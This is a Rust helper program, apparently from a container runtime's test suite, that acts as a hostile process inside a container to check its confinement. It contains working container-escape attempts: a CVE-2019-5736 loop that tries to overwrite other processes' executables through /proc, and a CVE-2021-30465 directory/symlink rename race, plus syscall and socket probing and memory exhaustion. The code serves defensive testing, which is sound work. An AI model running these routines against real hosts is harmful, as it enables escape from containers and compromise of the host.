//! Plays the hostile program of a container, and other odd company. `attacker NAME ARGS...`.
#![expect(clippy::print_stdout, reason = "its answers are read by the tests")]

use rustix::fs::{CWD, Mode, OFlags, RenameFlags};
use std::ffi::CString;
use std::io::Write;
use std::os::fd::AsRawFd;
use std::path::Path;

fn main() {
    let words: Vec<String> = std::env::args().collect();
    let word = |index: usize| words.get(index).map(String::as_str).unwrap_or_default();
    match word(1) {
        "syscalls" => syscalls(),
        "sockets" => sockets(),
        "keyring" => println!("{:?}", dhow_sys::probe::session_keyring()),
        "overwrite" => overwrite(Path::new(word(2))),
        "swap" => swap(Path::new(word(2)), Path::new(word(3)), Path::new(word(4))),
        "mess" => mess(&words[2..]),
        "eat" => eat(word(2).parse().expect("MiB")),
        other => panic!("unknown: {other}"),
    }
}

/// One line for each call: its name, and the errno or `ok`.
fn syscalls() {
    for name in dhow_sys::probe::names() {
        match dhow_sys::probe::call(name) {
            Ok(_) => println!("{name} ok"),
            Err(error) => println!("{name} {}", error.raw_os_error().unwrap_or_default()),
        }
    }
}

/// One line for each socket family: its number, and the errno or `ok`.
fn sockets() {
    use rustix::net::{AddressFamily, SocketType, socket};
    for family in 1..=45 {
        // ALG wants SEQPACKET, NETLINK and PACKET want RAW; a filter looks at the family first.
        let types = [SocketType::STREAM, SocketType::DGRAM, SocketType::SEQPACKET, SocketType::RAW];
        let answers: Vec<_> = types.iter().map(|kind| socket(AddressFamily::from_raw(family), *kind, None)).collect();
        match answers.iter().find_map(|answer| answer.as_ref().err()) {
            _ if answers.iter().any(Result::is_ok) => println!("{family} ok"),
            Some(error) => println!("{family} {}", error.raw_os_error()),
            None => println!("{family} ok"),
        }
    }
}

/// CVE-2019-5736: waits for a process that is not ours, and tries by every road to write to its program. Prints `wrote`
/// on success. Ends when the file `stop` exists.
fn overwrite(stop: &Path) {
    let own = std::fs::read_link("/proc/self/exe").expect("our own name");
    let mut seen = 0_u64;
    println!("ready");
    while !stop.exists() {
        for entry in std::fs::read_dir("/proc").expect("/proc").flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if !name.bytes().all(|byte| byte.is_ascii_digit()) {
                continue;
            }
            let path = format!("/proc/{name}/exe");
            // The road of the exploit: keep a handle while the program runs, open it for writing once it does not.
            let Ok(handle) = rustix::fs::open(path.as_str(), OFlags::PATH | OFlags::CLOEXEC, Mode::empty()) else { continue };
            // Asked of the handle: the process may be another program by now. The container's own files are its own affair.
            let target = std::fs::read_link(format!("/proc/self/fd/{}", handle.as_raw_fd())).unwrap_or_default();
            if target == own || target.starts_with("/bin") {
                continue;
            }
            seen += 1;
            let again = format!("/proc/self/fd/{}", handle.as_raw_fd());
            for _attempt in 0..200 {
                if let Ok(mut file) = std::fs::OpenOptions::new().write(true).open(&again)
                    && file.write_all(b"owned").is_ok()
                {
                    println!("wrote {}", target.display());
                    break;
                }
            }
        }
    }
    println!("seen {seen}");
}

/// CVE-2021-30465: exchanges a directory and a symbolic link as fast as it can, until the file `stop` exists.
fn swap(one: &Path, other: &Path, stop: &Path) {
    let mut count = 0_u64;
    println!("ready");
    while !stop.exists() {
        for _ in 0..100 {
            rustix::fs::renameat_with(CWD, one, CWD, other, RenameFlags::EXCHANGE).expect("exchange");
            count += 1;
        }
    }
    println!("swapped {count}");
}

/// Blocks signals and becomes another program, which then starts with an odd inheritance.
fn mess(words: &[String]) {
    use nix::sys::signal::{SigSet, Signal};
    let mut set = SigSet::empty();
    for signal in [Signal::SIGUSR1, Signal::SIGTERM, Signal::SIGCHLD, Signal::SIGPIPE, Signal::SIGWINCH] {
        set.add(signal);
    }
    set.thread_block().expect("block signals");
    let words: Vec<CString> = words.iter().map(|word| CString::new(word.as_str()).expect("no zero")).collect();
    let error = nix::unistd::execvp(&words[0], &words).expect_err("exec returns only on failure");
    panic!("exec: {error}");
}

/// Takes memory, page by page.
fn eat(mebibytes: usize) {
    let mut all = Vec::new();
    for _ in 0..mebibytes {
        let mut block = vec![0_u8; 1 << 20];
        block.iter_mut().step_by(4096).for_each(|byte| *byte = 1);
        all.push(block);
    }
    println!("ate {}", all.len());
}
